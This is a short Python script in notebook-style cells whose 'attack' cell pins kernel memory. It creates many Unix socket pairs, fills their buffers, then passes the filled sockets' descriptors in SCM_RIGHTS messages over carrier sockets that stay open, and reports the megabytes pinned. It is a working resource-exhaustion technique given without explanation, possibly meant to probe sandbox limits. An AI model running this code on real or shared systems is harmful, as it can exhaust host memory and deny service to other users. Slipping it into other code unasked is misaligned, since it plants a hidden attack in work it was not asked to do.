# %% setup
# %% forward
# %% attack
import socket
kept, filled = [], 0
block = bytes(1 << 16)
try:
    for _ in range(60):
        carrier = socket.socketpair()
        for side in carrier:
            side.setblocking(False)
        kept.append(carrier)
        for _ in range(60):
            pair = socket.socketpair()
            for side in pair:
                side.setblocking(False)
                try:
                    while True:
                        filled += side.send(block)
                except OSError:
                    pass
            try:
                socket.send_fds(carrier[0], [b"x"], [side.fileno() for side in pair])
            finally:
                for side in pair:
                    side.close()
except OSError as error:
    print(error.strerror)
for carrier in kept:
    for side in carrier:
        side.close()
print("MB", filled >> 20)
# %% backward
